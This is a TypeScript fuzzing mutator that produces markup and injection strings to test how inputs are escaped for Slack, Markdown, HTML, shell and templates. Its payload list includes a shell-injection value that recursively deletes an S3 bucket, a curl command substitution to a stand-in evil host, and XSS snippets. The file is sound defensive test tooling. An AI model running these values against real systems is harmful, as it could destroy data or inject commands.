import type { Mutator } from './mutator.ts';

/** What means something to Slack, Markdown, HTML, a shell, a mail header or a template. */
export const markup: Mutator = (value, random) => {
  const hostile = random.oneOf([
    '<!channel>',
    '<@U012AB3CD> <https://evil.example|click>',
    '*bold* _it_ ~no~ `code` ```block```',
    '<script>alert(1)</script>',
    '&lt;!here&gt; &amp;amp; &#x3c;',
    '[link](https://evil.example) # Title',
    "'; aws s3 rm s3://acme --recursive; echo '",
    '$(curl evil.example) `id` ${HOME} %s {{x}}',
    '"quotes" \\" \\u0000 \\',
    'javascript:alert(1)',
    'https://evil.example/?a=b&c=<d>',
  ]);
  return typeof value === 'string' && random.below(2) === 0 ? `${value} ${hostile}` : hostile;
};
